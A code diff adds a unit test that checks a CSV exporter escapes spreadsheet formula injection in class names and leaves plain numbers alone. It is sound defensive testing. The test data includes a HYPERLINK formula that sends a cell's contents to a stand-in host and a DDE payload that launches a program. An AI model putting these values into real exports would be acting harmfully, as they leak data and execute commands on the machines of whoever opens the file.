@@ -478,3 +478,22 @@ def test_a_suffix_in_capitals(say, runs, tmp_path):
     np.save(tmp_path / "x.npy", np.ones((2, 2)))
     (tmp_path / "x.npy").rename(tmp_path / "X.NPY")
     assert len(rows(say(out, tmp_path / "X.NPY"))) == 2
+
+
+def test_names_are_no_formulas_of_a_spreadsheet():
+    names = [
+        '=HYPERLINK("http://x/?"&A1,"x")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "\t=1",
+        "-a",
+    ]
+    numbers = ["-1", "+1.5", "-1e-3", "1=1", "a", "", "'=1"]
+    names += [*numbers, "\r=1"]
+    found = Predictions(names, np.eye(len(names), dtype="float32"), [*names])
+    rows = [*csv.reader(io.StringIO("".join(write_csv(found, True)), newline=""))]
+    assert rows[0][3:] == [f"probability_{name}" for name in [*names[:-1], r"\r=1"]]
+    shown = [name if name in numbers else f"'{name}" for name in names[:-1]] + [r"\r=1"]
+    assert [row[:2] for row in rows[1:]] == [[name, name] for name in shown]
+    told = json.loads("".join(write_json(found, False)))
+    assert [row["class"] for row in told] == names
